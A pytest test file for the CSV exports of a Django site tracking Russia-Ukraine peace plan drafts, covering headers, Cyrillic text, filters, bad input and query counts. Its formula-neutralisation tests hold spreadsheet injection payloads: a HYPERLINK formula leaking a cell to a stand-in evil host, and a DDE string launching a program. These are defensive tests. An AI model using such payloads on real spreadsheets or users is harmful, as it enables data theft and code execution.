"""CSV exports of every table: parsed back, rows as on the page, filters, Cyrillic, formulas, bad input, queries."""

import csv
import io
import re
from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from peaceplans.models import Clause, Event, Party, Point, Revision, Source, Stance, Topic
from peaceplans.publish.exports import csv_cell
from peaceplans.web.changes import recent_changes
from tests.parts import through_last

pytestmark = pytest.mark.django_db

PLAN = "russia-ukraine-2025"
P = f"/plans/{PLAN}"
HOST = "http://testserver"
US, E3 = "us-28-point-draft", "e3-counter-proposal"
SNAKE = re.compile(r"^[a-z][a-z0-9_]*$")

EXPORTS = {
    # url: (file name, first columns of the header)
    f"{P}/matrix.csv": (f"{PLAN}-stances.csv", ["key", "title", "topic", "url", "positions_on"]),
    f"{P}/timeline.csv": (f"{PLAN}-timeline.csv", ["date", "kind", "title", "summary", "parties", "status", "url"]),
    f"{P}/compare.csv?a={US}&b={E3}": (
        f"{PLAN}-compare-{US}-{E3}.csv",
        ["key", "title", "label_a", "label_b", "number_a", "number_b", "status", "text_a", "text_b", "wording_note_a"],
    ),
    f"{P}/points/6/wording.csv": (f"{PLAN}-point-6-wording.csv", ["revision", "revision_label", "revision_title"]),
    f"{P}/points/6/stances.csv": (f"{PLAN}-point-6-stances.csv", ["party", "position", "stated_on", "summary"]),
    f"{P}/revisions/{US}/clauses.csv": (f"{PLAN}-{US}-clauses.csv", ["number", "key", "title", "status", "text"]),
    f"{P}/parties/russia/positions.csv": (f"{PLAN}-russia-positions.csv", ["key", "title", "topic", "position"]),
    f"{P}/changes.csv": (f"{PLAN}-changes.csv", ["changed_at", "action", "what", "url"]),
    "/sources.csv": ("peaceplans-sources.csv", ["id", "outlet", "title", "published_on", "kind", "via", "citable"]),
}


def download(client, url) -> list[dict]:
    """The CSV at `url` parsed back with the csv module, as dicts keyed by the header."""
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code, response.content[:300])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def header_of(client, url) -> list[str]:
    return next(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))


def html_of(client, url, status=200, **headers) -> str:
    response = client.get(url, headers=headers)
    assert response.status_code == status, (url, response.status_code)
    return response.content.decode()


# What every export shares


@pytest.mark.parametrize("url", EXPORTS)
def test_every_export_is_an_attachment_with_a_bom_and_a_snake_case_header(client, url):
    """UTF-8 with a byte-order mark (Excel), named `<plan>-<what>.csv`, header of stable snake_case names."""
    filename, first_columns = EXPORTS[url]
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert response.content.startswith(b"\xef\xbb\xbf") and not response.content.startswith(b"\xef\xbb\xbf" * 2)
    header = header_of(client, url)
    assert header[: len(first_columns)] == first_columns
    assert all(SNAKE.match(name) for name in header), header
    assert len(header) == len(set(header))
    assert len(download(client, url)) > 0


@pytest.mark.parametrize("url", EXPORTS)
def test_every_export_refuses_post(client, url):
    assert client.post(url).status_code == 405


@pytest.mark.parametrize("url", [u for u in EXPORTS if u.startswith(P)])
def test_every_export_of_an_unknown_plan_is_404(client, url):
    assert client.get(url.replace(PLAN, "nope")).status_code == 404


@pytest.mark.parametrize("url", EXPORTS)
def test_urls_in_every_export_are_absolute_and_on_this_site_or_a_source(client, url):
    """Cells holding links are absolute: our own pages on this host, or the sources' own addresses."""
    sources = set(Source.objects.values_list("url", flat=True))
    for row in download(client, url):
        for name, value in row.items():
            if name.endswith(("url", "urls")) and value:
                for link in value.split(" "):
                    assert link.startswith(f"{HOST}/") or link in sources, (name, link)


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("+31 6", "'+31 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("Росія", "Росія"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (date(2025, 11, 20), "2025-11-20"),
    ],
)
def test_csv_cell(value, cell):
    """Formulas get a leading apostrophe; other values are written as text a spreadsheet shows as is."""
    assert csv_cell(value) == cell


def test_formula_in_a_stance_summary_is_neutralised_in_every_export_that_shows_it(client):
    """A stance summary starting with =HYPERLINK(...) reaches the files as text, not as a formula."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    stance = Stance.objects.filter(point__key="6", party__slug="russia").order_by("stated_on", "pk").last()
    Stance.objects.filter(pk=stance.pk).update(summary=formula, speaker="+cmd|' /C calc'!A0")
    for url in (f"{P}/points/6/stances.csv", f"{P}/parties/russia/positions.csv"):
        rows = download(client, url)
        cells = [cell for row in rows for cell in row.values()]
        assert "'" + formula in cells, url
        assert "'+cmd|' /C calc'!A0" in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), url


def test_formula_in_an_event_title_is_neutralised_in_the_timeline(client):
    event = Event.objects.order_by("date", "pk").first()
    Event.objects.filter(pk=event.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0", summary="-1+2")
    row = next(r for r in download(client, f"{P}/timeline.csv") if r["url"].endswith(f"#event-{event.pk}"))
    assert row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["summary"] == "'-1+2"


def test_cyrillic_round_trips(client):
    """Ukrainian and Russian text survives the UTF-8 file unchanged (the BOM tells Excel it is UTF-8)."""
    text = "Україна: «ні» до 600 000; Россия — «нет»"
    stance = Stance.objects.filter(point__key="7").first()
    Stance.objects.filter(pk=stance.pk).update(summary=text, quote="Ми стоїмо там, де стоїмо")
    Clause.objects.filter(point__key="6", revision__slug=US).update(text=text)
    row = next(r for r in download(client, f"{P}/points/7/stances.csv") if r["url"].endswith(f"#stance-{stance.pk}"))
    assert row["summary"] == text and row["quote"] == "Ми стоїмо там, де стоїмо"
    assert download(client, f"{P}/revisions/{US}/clauses.csv")[5]["text"] == text
    raw = client.get(f"{P}/points/7/stances.csv").content
    assert text.encode("utf-8") in raw


def test_uncitable_source_url_appears_in_no_export(client):
    """A source marked not citable is never given as a URL, in any file; the sources list keeps its row."""
    clause = Clause.objects.get(point__key="6", revision__slug=US)
    stance = Stance.objects.filter(point__key="6", party__slug="russia").order_by("stated_on", "pk").last()
    event = Event.objects.order_by("date", "pk").first()
    hidden = [clause.sources.first(), stance.source, event.source, Revision.objects.get(slug=US).sources.first()]
    Source.objects.filter(pk__in=[s.pk for s in hidden]).update(citable=False)
    for url in [*EXPORTS, f"{P}/points/6/wording.csv?against={E3}", f"{P}/timeline.csv?party=us"]:
        body = client.get(url).content.decode("utf-8-sig")
        for source in hidden:
            assert source.url not in body, (url, source.url)
    rows = {r["id"]: r for r in download(client, "/sources.csv")}
    for source in hidden:
        assert rows[str(source.pk)]["citable"] == "false" and rows[str(source.pk)]["url"] == ""
        assert rows[str(source.pk)]["outlet"] == source.outlet


# Each export against its page


def test_matrix_csv_has_one_row_per_point_and_blank_source_for_uncitable(client, plan):
    rows = download(client, f"{P}/matrix.csv")
    assert [r["key"] for r in rows] == list(plan.points.in_order().values_list("key", flat=True))


@pytest.mark.parametrize("party", ["", "us", "ukraine", "europe", "russia"])
def test_timeline_csv_has_the_pages_entries_in_the_same_order(client, party):
    query = f"?party={party}" if party else ""
    html = html_of(client, f"{P}/timeline/{query}")
    on_page = re.findall(r'<li class="timeline__item[^"]*" id="((?:event|revision)-[^"]+)"', html)
    rows = download(client, f"{P}/timeline.csv{query}")
    assert [r["url"] for r in rows] == [f"{HOST}{P}/timeline/#{anchor}" for anchor in on_page]
    if party:
        assert all(party in r["parties"].split("; ") for r in rows)


def test_timeline_csv_links_texts_to_their_page_and_the_previous_text(client):
    rows = [r for r in download(client, f"{P}/timeline.csv") if r["kind"] == "revision"]
    revisions = list(Revision.objects.order_by("published_on", "pk"))
    assert [r["page_url"] for r in rows] == [f"{HOST}{r.get_absolute_url()}" for r in revisions]
    assert rows[0]["compare_url"] == ""
    for row, previous, revision in zip(rows[1:], revisions[:-1], revisions[1:], strict=True):
        assert row["compare_url"] == f"{HOST}{P}/compare/?a={previous.slug}&b={revision.slug}"
        assert row["title"] == revision.title and row["status"] == revision.get_status_display()
        assert row["parties"] == "; ".join(revision.authors.values_list("slug", flat=True))
        assert row["source_urls"].split(" ") == [s.url for s in revision.sources.all() if s.citable]


def test_timeline_csv_event_row(client):
    event = Event.objects.order_by("date", "pk").first()
    row = download(client, f"{P}/timeline.csv")[0]
    assert row["date"] == event.date.isoformat() and row["kind"] == "event" and row["title"] == event.title
    assert row["source_urls"] == event.source.url and row["page_url"] == row["compare_url"] == row["status"] == ""
    assert set(row["parties"].split("; ")) == set(event.parties.values_list("slug", flat=True))


@pytest.mark.parametrize(
    "query", ["?party=nope", "?party=us&party=russia", "?party=" + "x" * 500, "?party=%3Cscript%3E", "?party='"]
)
def test_timeline_csv_bad_party_is_a_plain_text_400(client, query):
    response = client.get(f"{P}/timeline.csv{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode().startswith("The filters could not be applied:\n")


GENEVA = "us-ukraine-geneva-framework"


@pytest.mark.parametrize("pair", [f"a={US}&b={E3}", f"a={US}&b={GENEVA}", f"a={E3}&b={US}"])
@pytest.mark.parametrize("changes", ["", "&changes=only", "&changes=all"])
def test_compare_csv_has_the_pages_rows(client, pair, changes):
    """One row per compared point, the same keys in the same order as the page, with changes=only honoured."""
    query = f"?{pair}{changes}"
    html = through_last(client, f"{P}/compare/{query}")  # the page in parts, all of them (the CSV is whole)
    on_page = re.findall(r'<li class="compare-row compare-row--[a-z]+" id="point-([^"]+)"', html)
    rows = download(client, f"{P}/compare.csv{query}")
    assert [r["key"] for r in rows] == on_page and on_page
    statuses = {r["status"] for r in rows}
    if changes == "&changes=only":
        assert statuses <= {"changed", "added", "dropped", "absent"}


def test_compare_csv_changes_only_leaves_out_the_unchanged_rows(client):
    """Points worded alike in both texts are in the full file and not in changes=only."""
    same = Clause.objects.get(point__key="1", revision__slug=US).text
    Clause.objects.filter(point__key="1", revision__slug=E3).update(text=same)
    Clause.objects.filter(point__key="2", revision__slug=E3).update(
        text=Clause.objects.get(point__key="2", revision__slug=US).text.upper()
    )
    everything = download(client, f"{P}/compare.csv?a={US}&b={E3}")
    only = download(client, f"{P}/compare.csv?a={US}&b={E3}&changes=only")
    quiet = [r["key"] for r in everything if r["status"] in {"unchanged", "cosmetic"}]
    assert quiet == ["1", "2", "10a", "10b", "11", "19", "20a"]  # 1 and 2 made so here; the rest are in the data
    assert [r["status"] for r in everything[:2]] == ["unchanged", "cosmetic"]
    assert [r["key"] for r in only] == [r["key"] for r in everything if r["key"] not in quiet]


def test_compare_csv_row_for_the_army_cap(client):
    """Point 6: both numbers, both texts (600,000 then 800,000), status, B's change note, absolute links."""
    row = next(r for r in download(client, f"{P}/compare.csv?a={US}&b={E3}") if r["key"] == "6")
    a = Clause.objects.get(point__key="6", revision__slug=US)
    b = Clause.objects.get(point__key="6", revision__slug=E3)
    assert (row["number_a"], row["number_b"], row["status"]) == (a.number, b.number, "changed")
    assert "600,000" in row["text_a"] and "800,000" in row["text_b"]
    assert row["text_a"] == a.text and row["text_b"] == b.text and row["change_note"] == b.change_note
    assert row["material_change"] == ("true" if b.material_change else "false")
    assert row["url"] == f"{HOST}{P}/compare/?a={US}&b={E3}#point-6"
    assert row["point_url"] == f"{HOST}{P}/points/6/"
    assert row["source_urls_a"].split(" ") == [s.url for s in a.sources.all() if s.citable]


def test_compare_csv_dropped_and_absent_rows(client):
    """A dropped point has no text B; a point B does not cover is 'absent' with no number B."""
    rows = download(client, f"{P}/compare.csv?a={US}&b={E3}&changes=only")
    dropped = [r for r in rows if r["status"] == "dropped"]
    absent = [r for r in rows if r["status"] == "absent"]
    assert dropped and all(r["text_a"] and not r["text_b"] and r["number_b"] for r in dropped)
    assert absent and all(r["text_a"] and not r["text_b"] and not r["number_b"] for r in absent)


def test_compare_csv_of_a_text_with_itself_is_the_header_alone(client):
    """The page shows no rows when A and B are the same text; neither does the file."""
    assert download(client, f"{P}/compare.csv?a={US}&b={US}") == []
    assert header_of(client, f"{P}/compare.csv?a={US}&b={US}")[0] == "key"


def test_compare_csv_defaults_to_the_pages_default_pair(client):
    assert download(client, f"{P}/compare.csv") == download(client, f"{P}/compare.csv?a={US}&b={E3}")


@pytest.mark.parametrize(
    "query,status",
    [
        ("?a=%3Cscript%3E", 400),
        ("?a=us&a=e3", 400),
        ("?view=sideways", 400),
        ("?changes=maybe", 400),
        ("?a=" + "x" * 500, 400),
        ("?a=nope", 404),
        ("?b=nope", 404),
    ],
)
def test_compare_csv_bad_parameters_are_refused_like_the_page(client, query, status):
    """The same 400 or 404 as the compare page; a 400 explains itself in plain text."""
    assert client.get(f"{P}/compare/{query}").status_code == status
    response = client.get(f"{P}/compare.csv{query}")
    assert response.status_code == status
    if status == 400:
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert response.content.decode().startswith("The filters could not be applied:\n")


def test_wording_csv_has_a_row_per_revision(client):
    """Each revision once, in date order: its number and text, or 'dropped' / 'absent'."""
    rows = download(client, f"{P}/points/6/wording.csv")
    revisions = list(Revision.objects.order_by("published_on", "pk"))
    assert [r["revision"] for r in rows] == [r.slug for r in revisions]
    clauses = {c.revision.slug: c for c in Clause.objects.filter(point__key="6")}
    for row in rows:
        clause = clauses.get(row["revision"])
        if clause is None:
            assert row["status"] == "absent" and row["text"] == row["number"] == ""
        else:
            assert row["status"] == ("dropped" if clause.dropped else "worded") and row["text"] == clause.text
        assert row["url"] == f"{HOST}{P}/points/6/#clause-{row['revision']}"
        assert row["change_against"] == ""


def test_wording_csv_honours_against(client):
    """?against= fills change_against as the page marks it: the base text itself is blank, the E3 cap 'changed'."""
    html = html_of(client, f"{P}/points/6/?against={US}")
    rows = {r["revision"]: r for r in download(client, f"{P}/points/6/wording.csv?against={US}")}
    assert rows[US]["change_against"] == ""
    assert rows[E3]["change_against"] == "changed"
    assert html.count('<p class="status status--') == sum(1 for r in rows.values() if r["change_against"])


@pytest.mark.parametrize(
    "query,status", [("?against=nope", 404), ("?against=%3Cx%3E", 400), ("?against=a&against=b", 400)]
)
def test_wording_csv_bad_against_like_the_page(client, query, status):
    assert client.get(f"{P}/points/6/{query}").status_code == status
    assert client.get(f"{P}/points/6/wording.csv{query}").status_code == status


@pytest.mark.parametrize("url", [f"{P}/points/999/wording.csv", f"{P}/points/%3Cx%3E/stances.csv"])
def test_point_exports_of_an_unknown_point_are_404(client, url):
    assert client.get(url).status_code == 404


def test_stances_csv_has_every_stance_on_the_point_latest_first(client):
    rows = download(client, f"{P}/points/7/stances.csv")
    stances = Stance.objects.filter(point__key="7")
    html = html_of(client, f"{P}/points/7/")
    assert len(rows) == stances.count() == html.count('<article class="stance-card')
    order = [p.slug for p in Party.objects.all()]
    assert [r["party"] for r in rows] == sorted((r["party"] for r in rows), key=order.index)
    for party in {r["party"] for r in rows}:
        mine = [r for r in rows if r["party"] == party]
        assert [r["is_latest"] for r in mine] == ["true"] + ["false"] * (len(mine) - 1)
        assert [r["stated_on"] for r in mine] == sorted((r["stated_on"] for r in mine), reverse=True)
    stance = stances.select_related("source").first()
    row = next(r for r in rows if r["url"] == f"{HOST}{P}/points/7/#stance-{stance.pk}")
    assert row["summary"] == stance.summary and row["source_url"] == stance.source.url
    assert row["source_outlet"] == stance.source.outlet and row["position"] == stance.get_position_display()


def test_clauses_csv_has_the_revisions_text(client):
    revision = Revision.objects.get(slug=E3)
    rows = download(client, f"{P}/revisions/{E3}/clauses.csv")
    html = html_of(client, f"{P}/revisions/{E3}/")
    assert len(rows) == revision.clauses.count() == html.count('<li id="point-')
    assert [r["key"] for r in rows] == re.findall(r'<li id="point-([^"]+)"', html)
    dropped = [r for r in rows if r["status"] == "dropped"]
    assert dropped and all(r["text"] == "" for r in dropped)
    assert rows[0]["url"] == f"{HOST}{P}/revisions/{E3}/#point-{rows[0]['key']}"


def test_clauses_csv_of_an_unknown_revision_is_404(client):
    assert client.get(f"{P}/revisions/nope/clauses.csv").status_code == 404


def test_positions_csv_has_the_parties_latest_position_on_every_point(client, plan):
    rows = download(client, f"{P}/parties/europe/positions.csv")
    assert [r["key"] for r in rows] == list(plan.points.in_order().values_list("key", flat=True))
    latest = {}
    for stance in Stance.objects.filter(party__slug="europe", point__isnull=False).order_by("stated_on", "pk"):
        latest[stance.point.key] = stance
    for row in rows:
        stance = latest.get(row["key"])
        if stance is None:
            assert row["position"] == "" and row["url"] == row["point_url"]
        else:
            assert row["position"] == stance.get_position_display() and row["summary"] == stance.summary
            assert row["url"] == f"{HOST}{P}/points/{row['key']}/#stance-{stance.pk}"


def test_positions_csv_of_an_unknown_party_is_404(client):
    assert client.get(f"{P}/parties/martians/positions.csv").status_code == 404


def test_changes_csv_has_the_change_logs_entries(client, plan):
    entries = recent_changes(plan)
    rows = download(client, f"{P}/changes.csv")
    assert len(rows) == len(entries) == html_of(client, f"{P}/changes/").count("<li><time")
    assert [r["what"] for r in rows] == [e.what for e in entries]
    assert rows[0]["changed_at"].endswith("Z") and rows[0]["url"].startswith(f"{HOST}/plans/")


def test_sources_csv_has_every_source(client):
    rows = download(client, "/sources.csv")
    assert len(rows) == Source.objects.count() == 140
    pravda = [r for r in rows if r["citable"] == "false"]
    assert pravda and all(r["url"] == "" for r in pravda)
    assert rows[0]["page_url"] == f"{HOST}/sources/?source={rows[0]['id']}#source-{rows[0]['id']}"


# Download links on the pages


@pytest.mark.parametrize(
    "page,link",
    [
        (f"{P}/timeline/?party=russia", f"{P}/timeline.csv?party=russia"),
        (f"{P}/compare/?a={E3}&b={US}&view=inline&changes=only", f"{P}/compare.csv?a={E3}&amp;b={US}&amp;changes=only"),
        (f"{P}/compare/", f"{P}/compare.csv?a={US}&amp;b={E3}"),
        (f"{P}/points/6/?against={E3}", f"{P}/points/6/wording.csv?against={E3}"),
        (f"{P}/points/6/", f"{P}/points/6/wording.csv"),
        (f"{P}/points/6/", f"{P}/points/6/stances.csv"),
        (f"{P}/revisions/{US}/", f"{P}/revisions/{US}/clauses.csv"),
        (f"{P}/parties/ukraine/", f"{P}/parties/ukraine/positions.csv"),
        (f"{P}/changes/", f"{P}/changes.csv"),
        ("/sources/", "/sources.csv"),
    ],
)
def test_each_page_has_a_download_link_with_its_filters(client, page, link):
    html = html_of(client, page)
    assert f'<a href="{link}" download>Download CSV</a>' in html
    response = client.get(link.replace("&amp;", "&"))
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize(
    "page,link",
    [
        (f"{P}/compare/?a={E3}&b={US}&changes=only", f"{P}/compare.csv?a={E3}&amp;b={US}&amp;changes=only"),
        (f"{P}/points/6/?against={E3}", f"{P}/points/6/wording.csv?against={E3}"),
        (f"{P}/timeline/?party=europe", f"{P}/timeline.csv?party=europe"),
    ],
)
def test_download_link_is_inside_the_htmx_region_so_it_follows_the_filters(client, page, link):
    html = html_of(client, page, **{"HX-Request": "true"})
    assert "<html" not in html
    assert f'<a href="{link}" download>Download CSV</a>' in html


# Query counts


def grow_data(plan):
    """
    40 more points with wording in every text and a stance from each party, a sixth text with
    its own wording of point 6, a stance from each party on point 6, 20 events and 40 sources.
    """
    topic = Topic.objects.get(slug="nato")
    parties = list(Party.objects.all())
    revisions = list(plan.revisions.all())
    sources = Source.objects.bulk_create(
        Source(url=f"https://example.org/more/{i}", outlet=f"Outlet {i}", kind="official") for i in range(40)
    )
    points = Point.objects.bulk_create(
        Point(plan=plan, key=f"gen-{i}", title=f"Generated {i}", topic=topic, sort_order=1000 + i) for i in range(40)
    )
    for point in points:
        for revision in revisions:
            text = f"Text in {revision.slug}" if point.sort_order % 2 else "Text"  # changed or unchanged rows
            clause = Clause.objects.create(revision=revision, point=point, number=f"g{point.sort_order}", text=text)
            clause.sources.set(sources[:2])
    six = Point.objects.get(plan=plan, key="6")
    Stance.objects.bulk_create(
        Stance(
            plan=plan,
            party=party,
            point=point,
            position="opposes",
            stated_on=date(2026, 1, 1),
            summary="generated",
            source=sources[n % 40],
        )
        for n, point in enumerate([*points, six])
        for party in parties
    )
    revision = Revision.objects.create(
        plan=plan, slug="generated", title="Generated text", published_on=date(2026, 3, 1), status="leaked-draft"
    )
    revision.authors.set(parties[:2])
    revision.sources.set(sources[2:5])
    Clause.objects.create(revision=revision, point=six, number="4", text="Generated wording").sources.set(sources[5:7])
    for i in range(20):
        event = Event.objects.create(plan=plan, date=date(2026, 2, 1), title=f"Generated event {i}", source=sources[i])
        event.parties.set(parties[:2])


QUERY_COUNTS = [
    (f"{P}/matrix.csv?topic=nato", 6),
    (f"{P}/timeline.csv", 6),
    (f"{P}/timeline.csv?party=us", 6),
    (f"{P}/compare.csv?a={US}&b={E3}", 6),  # with the stored word diffs' query
    (f"{P}/compare.csv?a={US}&b={E3}&changes=only", 6),
    (f"{P}/points/6/wording.csv?against={US}", 6),
    (f"{P}/points/6/stances.csv", 4),
    (f"{P}/revisions/{US}/clauses.csv", 4),
    (f"{P}/parties/russia/positions.csv", 4),
    (f"{P}/changes.csv", 8),
    ("/sources.csv", 1),
]


@pytest.mark.parametrize("url,count", QUERY_COUNTS)
@pytest.mark.usefixtures("page_cache_off")
def test_query_count_is_pinned_and_does_not_grow_with_data(client, plan, url, count):
    """Each export runs the same few queries before and after the data grows (and the file with it)."""
    client.get(url)
    with CaptureQueriesContext(connection) as before:
        before_rows = len(download(client, url))
    grow_data(plan)
    with CaptureQueriesContext(connection) as after:
        after_rows = len(download(client, url))
    if "changes.csv" not in url:  # the change log shows the newest 50 edits, however many there are
        assert after_rows > before_rows
    assert len(before) == len(after) == count, [q["sql"][:100] for q in after]
